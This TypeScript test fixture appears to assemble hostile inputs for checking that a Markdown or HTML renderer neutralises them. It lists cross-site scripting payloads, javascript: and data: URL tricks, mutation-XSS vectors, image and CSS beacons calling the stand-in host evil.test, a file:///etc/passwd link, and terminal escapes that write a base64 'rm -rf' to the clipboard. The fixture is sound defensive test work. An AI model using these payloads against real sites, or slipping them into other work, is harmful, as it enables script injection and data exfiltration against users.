// Texts that would run code in a page, or send data from it, if the page used them as HTML, addresses or styles.

/** Code that runs leaves a trace. */
const RUN = "globalThis.hasRun=1";
/** No request may go there. */
const ELSEWHERE_URL = "https://evil.test/x";

const tags = [
  ...["img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=x"],
  ...[
    "math",
    "marquee",
    "object data=x",
    "embed src=x",
    "select autofocus",
    "textarea autofocus",
    "style",
    "video><source",
  ],
];
const handlers = [
  ...["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onpointerrawupdate"],
];

const handled = tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${RUN}>`));

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT >${RUN}</SCRIPT >`,
  `<script src=${ELSEWHERE_URL}></script>`,
  `<script src=//evil.test/x></script>`,
  `<script type=module>import "${ELSEWHERE_URL}"</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</pre></code><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<div style="animation-name:x" onanimationend="${RUN}">`,
  `<xss contenteditable autofocus onfocus=${RUN}>`,
];

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#x0A;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://x%0A${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLmhhc1J1bj0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `vbscript:${RUN}`,
  "file:///etc/passwd",
  "//evil.test/x",
  "/v1/sessions",
  "https://user:secret@evil.test/x",
];

const addressed = addresses.flatMap((address) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `![x](${address})`,
  `<${address}>`,
  `[x][r]\n\n[r]: ${address}`,
  `[![i](${address})](${address})`,
  `<a href="${address}">x</a>`,
  `<img src="${address}">`,
  `<form action="${address}"><button>x</button></form>`,
  `<base href="${address}">`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<object data="${address}"></object>`,
]);

const beacons = [
  `![x](${ELSEWHERE_URL}.png)`,
  `![x][b]\n\n[b]: ${ELSEWHERE_URL}.png`,
  `[![x](${ELSEWHERE_URL}.png)](${ELSEWHERE_URL})`,
  ...[
    `<img src=${ELSEWHERE_URL}>`,
    `<img srcset="${ELSEWHERE_URL} 1x">`,
    `<img lowsrc=${ELSEWHERE_URL} dynsrc=${ELSEWHERE_URL}>`,
  ],
  ...["preload", "prefetch", "dns-prefetch", "preconnect", "modulepreload", "stylesheet", "icon", "manifest"].map(
    (rel) => `<link rel=${rel} as=image href=${ELSEWHERE_URL}>`,
  ),
  ...["video", "audio", "embed", "iframe", "track", "source", "input type=image"].map(
    (tag) => `<${tag} src=${ELSEWHERE_URL}>`,
  ),
  `<video poster=${ELSEWHERE_URL}></video>`,
  `<table background=${ELSEWHERE_URL}></table>`,
  `<p style="background:url(${ELSEWHERE_URL})">x</p>`,
  `<style>@import url(${ELSEWHERE_URL});</style>`,
  `<style>*{background:url(${ELSEWHERE_URL})}</style>`,
  `<style>@font-face{font-family:x;src:url(${ELSEWHERE_URL})}</style>`,
  `<svg><image href=${ELSEWHERE_URL} /><use href="${ELSEWHERE_URL}#x"/><feImage href=${ELSEWHERE_URL} /></svg>`,
  `<picture><source srcset=${ELSEWHERE_URL}><img></picture>`,
  `<a ping=${ELSEWHERE_URL} href=#>x</a>`,
  `<object data=${ELSEWHERE_URL}></object>`,
  `<portal src=${ELSEWHERE_URL}></portal>`,
];

const inside = [
  scripts[0],
  handled[0],
  addressed[0],
  addressed[6],
  beacons[0],
  beacons[3],
  scripts[17],
  scripts[22],
].map(String);

const wrapped = inside.flatMap((text) => [
  `\`\`\`html\n${text}\n\`\`\``,
  `\`\`\`"><${text}\nx\n\`\`\``,
  `\`${text}\``,
  `| a | b |\n|---|---|\n| ${text} | x |`,
  `- [ ] ${text}`,
  `> ${text}`,
  `# ${text}`,
  `[${text}](https://example.com)`,
  `<!-- ${text} -->`,
  `<![CDATA[${text}]]>`,
  `**${text}**`,
  `x[^1]\n\n[^1]: ${text}`,
]);

const odd = [
  "&lt;script&gt;globalThis.hasRun=1&lt;/script&gt;",
  "&#60;img src=x onerror=globalThis.hasRun=1&#62;",
  "&amp;lt;img src=x onerror=globalThis.hasRun=1&amp;gt;",
  "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200e\u2028\u2029\ufeff",
  "\u001b]8;;javascript:globalThis.hasRun=1\u0007link\u001b]8;;\u0007",
  "\u001b[31mred\u001b[0m\u001b]52;c;cm0gLXJm\u0007\u001bP+q544e\u001b\\",
  "\u0000<img\u0000 src=x onerror\u0000=globalThis.hasRun=1>",
  ...["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf"],
  ...[
    "[__proto__]",
    "[x][__proto__]",
    "[__proto__]: javascript:globalThis.hasRun=1",
    "```__proto__\nx\n```",
    "&__proto__;",
  ],
  `${"> ".repeat(3000)}<img src=x onerror=${RUN}>`,
  `${"- ".repeat(3000)}x`,
  `${"[".repeat(5000)}x${"](javascript:0)".repeat(50)}`,
  `${"*a **b ".repeat(3000)}`,
  `${"a_".repeat(20_000)}`,
  `${"<".repeat(10_000)}script>${RUN}`,
  `${"`".repeat(10_001)}`,
  `${"|".repeat(3000)}\n${"|-".repeat(3000)}`,
  "\ud800<script>globalThis.hasRun=1</script>\udfff",
  `"${RUN}"`,
  "%3Cscript%3EglobalThis.hasRun=1%3C/script%3E",
];

export const hostileTexts: readonly string[] = [
  ...new Set([...handled, ...scripts, ...addressed, ...beacons, ...wrapped, ...odd].map((text) => text.toWellFormed())),
];
